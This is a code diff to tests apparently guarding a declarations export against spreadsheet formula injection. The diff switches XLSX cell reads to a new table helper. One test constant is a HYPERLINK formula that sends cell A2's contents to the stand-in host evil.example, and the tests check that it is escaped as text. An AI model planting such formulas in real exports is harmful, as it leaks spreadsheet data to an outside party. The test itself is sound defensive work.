@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from declarations.cells import SafeCsvWriter, safe_cell, safe_row
 from tests.export_jobs import exported
 from tests.factories import CompanyFactory, DeclarationFactory
+from tests.sheets import table
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
 
@@ -36,6 +37,7 @@ def test_the_list_exports_carry_an_imported_formula_as_text(client, hq, bazargan
     assert (rows[1][company], rows[1][waybill]) == ("'" + LINK, "'=1+1")
 
     sheet = load_workbook(io.BytesIO(exported(client, reverse("declarations:export-xlsx")))).worksheets[0]
-    company, waybill = sheet.cell(2, company + 1), sheet.cell(2, waybill + 1)
+    row = table(sheet)[1]
+    company, waybill = row[company], row[waybill]
     assert (company.data_type, waybill.data_type) == ("s", "s")  # text, not "f" (a formula)
     assert (company.value, waybill.value) == ("'" + LINK, "'=1+1")
